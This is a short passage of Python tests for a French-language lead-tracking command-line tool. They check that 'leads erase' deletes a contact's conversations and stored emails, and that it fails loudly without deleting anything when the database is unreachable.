    elsewhere = tmp_path / "ailleurs"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    capsys.readouterr()
    code = cli.main(["leads", "erase", "--email", "jeanne.martin@menuiserie-martin.fr"])
    out = capsys.readouterr().out
    assert code == 0 and "1 conversation(s) (3 événement(s)), 1 e-mail(s)" in out
    assert tracker.count("conv-1") == 0 and not list((home / "var" / "mail").glob("*.eml"))
    assert not (elsewhere / "var").exists()
    tracker.engine.dispose()


def test_erase_fails_loudly_when_the_conversations_cannot_be_reached(run, two_leads, monkeypatch):
    monkeypatch.setenv("TRACKER_DB_URL", "postgresql+psycopg2://nobody@127.0.0.1:1/tracker")
    code, out, err = run("leads", "erase", "--sender", "conv-2")
    assert code == 1
    assert "base des conversations inaccessible (postgresql+psycopg2://nobody@127.0.0.1:1/tracker)" in err
    assert "rien n’y a été effacé" in err
    assert len(json.loads(run("leads", "export")[1])) == 2  # the lead is kept: run it again later
